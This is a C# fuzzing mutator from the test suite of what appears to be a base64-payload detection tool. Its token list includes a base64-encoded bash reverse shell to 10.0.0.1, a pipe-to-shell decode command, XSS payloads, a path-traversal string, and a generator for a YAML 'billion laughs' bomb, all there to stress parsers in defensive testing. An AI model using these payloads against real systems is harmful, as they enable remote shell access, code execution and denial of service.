using System;
using System.Collections.Generic;
using System.Text;

namespace B64Hunt.Tests.Fuzz
{
    /// <summary>
    /// Mutations of real inputs: bit flips, truncation, duplication, deletion, splices, insertion of quotes,
    /// backslashes, NULs, invalid UTF-8, shell/JSON/YAML metacharacters, nesting, and pure random bytes.
    /// Huge runs (megabytes) only when the caller asks for them.
    /// </summary>
    internal static class Mutator
    {
        private static readonly byte[][] Tokens =
        {
            B("\""), B("'"), B("\\"), B("\0"), B("\\\""), B("\"\""), B("`"), B("$("), B(")"), B("${"), B("}"),
            B("{"), B("["), B("]"), B(","), B(":"), B("="), B("=="), B("|"), B("&&"), B(";"), B("\n"), B("\r\n"), B("\r"), B("\t"),
            B("<script>alert(1)</script>"), B("<img src=x onerror=alert(1)>"), B("&amp;"), B("%00"), B("%3D"), B("\\x41\\x"),
            new byte[] { 0xFF }, new byte[] { 0xFE, 0xFF }, new byte[] { 0xC3, 0x28 }, new byte[] { 0xED, 0xA0, 0x80 },
            new byte[] { 0xF4, 0x90, 0x80, 0x80 }, new byte[] { 0xE2, 0x80, 0xAE }, new byte[] { 0xEF, 0xBB, 0xBF }, new byte[] { 0x1F, 0x8B },
            B("base64 -d"), B("| base64 --decode | sh"), B("echo "), B("YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQzIDA+JjE="),
            B("H4sIAAAAAAAA"), B("type=AUOMS_EXECVE "), B("cmdline=\""), B("msg=audit(1.2:3): "), B("argc=99 a0="), B("a1_len=99999999 "),
            B("&anchor "), B("*anchor"), B("!!binary "), B("!!python/object "), B("- "), B("? "), B("--- "), B("... "), B("%YAML 1.2\n"),
            B("null"), B("true"), B("1e999"), B("-9223372036854775809"), B("\"\\u0000\""), B("\"\\ud800\""), B("[[[["), B("{\"a\":"),
            B("NaN"), B("2024-13-45T99:99:99Z"), B("http://[::1"), B("1.2.3.4.5"), B("xn--"), B(".."), B("/../../etc/passwd"),
        };

        public static byte[] B(string s) => Encoding.UTF8.GetBytes(s);

        /// <summary>One to <paramref name="rounds"/> random mutations of <paramref name="input"/>; <paramref name="donors"/> feed splices.</summary>
        public static byte[] Mutate(FuzzRng rng, byte[] input, int rounds = 4, IReadOnlyList<byte[]>? donors = null)
        {
            var data = new List<byte>(input);
            int n = rng.Next(1, rounds + 1);
            for (int r = 0; r < n; r++) MutateOnce(rng, data, donors);
            return data.ToArray();
        }

        private static void MutateOnce(FuzzRng rng, List<byte> data, IReadOnlyList<byte[]>? donors)
        {
            int at = data.Count == 0 ? 0 : rng.Next(data.Count + 1);
            switch (rng.Next(12))
            {
                case 0: // bit flip
                    if (data.Count > 0) { int i = rng.Next(data.Count); data[i] ^= (byte)(1 << rng.Next(8)); }
                    break;
                case 1: // random byte
                    if (data.Count > 0) data[rng.Next(data.Count)] = (byte)rng.Next(256);
                    break;
                case 2: // truncate
                    if (data.Count > 0) data.RemoveRange(at == data.Count ? data.Count - 1 : at, data.Count - (at == data.Count ? data.Count - 1 : at));
                    break;
                case 3: // delete a range
                    if (data.Count > 0)
                    {
                        int start = rng.Next(data.Count);
                        data.RemoveRange(start, Math.Min(data.Count - start, rng.Next(1, 64)));
                    }
                    break;
                case 4: // duplicate a range
                    if (data.Count > 0)
                    {
                        int start = rng.Next(data.Count);
                        int len = Math.Min(data.Count - start, rng.Next(1, 256));
                        var copy = data.GetRange(start, len);
                        int times = rng.Next(1, 8);
                        for (int t = 0; t < times; t++) data.InsertRange(start, copy);
                    }
                    break;
                case 5:
                case 6:
                case 7: // special token
                    data.InsertRange(at, rng.Pick(Tokens));
                    break;
                case 8: // run of one character (short; huge runs are explicit)
                    {
                        byte b = rng.Pick(new byte[] { (byte)'A', (byte)'=', (byte)'"', (byte)'\\', 0, (byte)'(', (byte)'$', (byte)'[', (byte)'{', (byte)' ', 0xFF, (byte)'/' });
                        data.InsertRange(at, Run(b, rng.Next(1, 2048)));
                    }
                    break;
                case 9: // random bytes
                    data.InsertRange(at, rng.Bytes(rng.Next(1, 64)));
                    break;
                case 10: // splice from another seed
                    if (donors != null && donors.Count > 0)
                    {
                        var donor = rng.Pick(donors);
                        if (donor.Length > 0)
                        {
                            int start = rng.Next(donor.Length);
                            int len = Math.Min(donor.Length - start, rng.Next(1, 512));
                            data.InsertRange(at, new ArraySegment<byte>(donor, start, len));
                        }
                    }
                    break;
                default: // nesting
                    data.InsertRange(at, B(Nesting(rng, rng.Next(1, 200))));
                    break;
            }
        }

        public static byte[] Run(byte b, int length)
        {
            var run = new byte[length];
            for (int i = 0; i < length; i++) run[i] = b;
            return run;
        }

        /// <summary>Deeply nested text of one of the shapes parsers recurse on.</summary>
        public static string Nesting(FuzzRng rng, int depth)
        {
            string[] open = { "$(", "(", "[", "{\"a\":", "`", "${", "<(", "\"$(echo ", "$((", "{ " };
            string[] close = { ")", ")", "]", "}", "`", "}", ")", ")\"", "))", "; }" };
            int k = rng.Next(open.Length);
            var sb = new StringBuilder(depth * 8);
            for (int i = 0; i < depth; i++) sb.Append(open[k]);
            sb.Append(rng.Chance(50) ? "echo aGVsbG8gd29ybGQ= | base64 -d" : "1");
            if (rng.Chance(70)) for (int i = 0; i < depth; i++) sb.Append(close[k]);
            return sb.ToString();
        }

        /// <summary>Text-level mutation for stages that take strings: byte mutations decoded leniently, plus lone surrogates and controls.</summary>
        public static string MutateText(FuzzRng rng, string input, int rounds = 4, IReadOnlyList<byte[]>? donors = null)
        {
            string text = Encoding.UTF8.GetString(Mutate(rng, Encoding.UTF8.GetBytes(input), rounds, donors));
            if (rng.Chance(25))
            {
                string[] odd = { "\uD800", "\uDC00", "\uFFFF", "\u0000", "\u202E", "\u2028", "\u001B[31m", "\uFEFF", "\u00A0", "\uD83D\uDE00" };
                int at = rng.Next(text.Length + 1);
                text = text.Insert(at, rng.Pick(odd));
            }
            return text;
        }

        /// <summary>A YAML "billion laughs": each level aliases the previous one ten times.</summary>
        public static string AliasBomb(int levels)
        {
            var sb = new StringBuilder();
            sb.Append("a0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
            for (int i = 1; i < levels; i++)
            {
                sb.Append('a').Append(i).Append(": &a").Append(i).Append(" [");
                for (int j = 0; j < 10; j++) sb.Append(j == 0 ? "" : ",").Append("*a").Append(i - 1);
                sb.Append("]\n");
            }
            return sb.ToString();
        }

        /// <summary>Random bytes of one of a few flavours: uniform, printable ASCII, or base64 alphabet.</summary>
        public static byte[] RandomBlob(FuzzRng rng, int length)
        {
            int flavour = rng.Next(3);
            if (flavour == 0) return rng.Bytes(length);
            const string printable = " !\"#$%&'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~\n\t";
            const string b64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=";
            string alphabet = flavour == 1 ? printable : b64;
            var bytes = new byte[length];
            for (int i = 0; i < length; i++) bytes[i] = (byte)alphabet[rng.Next(alphabet.Length)];
            return bytes;
        }
    }
}
